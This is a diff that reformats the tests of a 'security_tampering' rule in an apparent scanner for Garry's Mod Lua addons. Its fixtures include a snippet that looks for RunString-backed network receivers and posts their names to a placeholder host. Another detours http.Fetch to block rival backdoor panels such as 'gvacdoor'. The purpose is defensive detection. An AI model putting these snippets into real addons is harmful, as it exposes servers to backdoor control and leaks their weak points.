@@ -4,22 +4,33 @@ import { rule } from './security_tampering.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
 describe('security_tampering', () => {
-  it("net.Receivers scanned with jit.util.funck and reported", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "local found = {}\nfor name, fn in pairs(net.Receivers) do if jit.util.funck(fn, -1) == \"RunString\" then found[#found + 1] = name end end\nhttp.Post(\"https://a.invalid/r\", {rm = table.concat(found, \",\")})"});
+  it('net.Receivers scanned with jit.util.funck and reported', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'local found = {}\nfor name, fn in pairs(net.Receivers) do if jit.util.funck(fn, -1) == "RunString" then found[#found + 1] = name end end\nhttp.Post("https://a.invalid/r", {rm = table.concat(found, ",")})',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("HTTP detoured to block rival panels", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "local rivals = {\"kpanel\", \"gvacdoor\", \"cipher-panel\"}\nlocal oFetch = http.Fetch\nhttp.Fetch = function(url, ...) for _, r in ipairs(rivals) do if string.find(url, r, 1, true) then return end end return oFetch(url, ...) end"});
+  it('HTTP detoured to block rival panels', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'local rivals = {"kpanel", "gvacdoor", "cipher-panel"}\nlocal oFetch = http.Fetch\nhttp.Fetch = function(url, ...) for _, r in ipairs(rivals) do if string.find(url, r, 1, true) then return end end return oFetch(url, ...) end',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("HTTP firewall of a security addon", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "local oFetch = http.Fetch\nhttp.Fetch = function(url, ...) if Blocklist[url] then return end return oFetch(url, ...) end"});
+  it('HTTP firewall of a security addon', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'local oFetch = http.Fetch\nhttp.Fetch = function(url, ...) if Blocklist[url] then return end return oFetch(url, ...) end',
+    });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
-  it("no detour", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "hook.Add(\"Think\", \"x\", function() end)"});
+  it('no detour', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': 'hook.Add("Think", "x", function() end)',
+    });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
 });
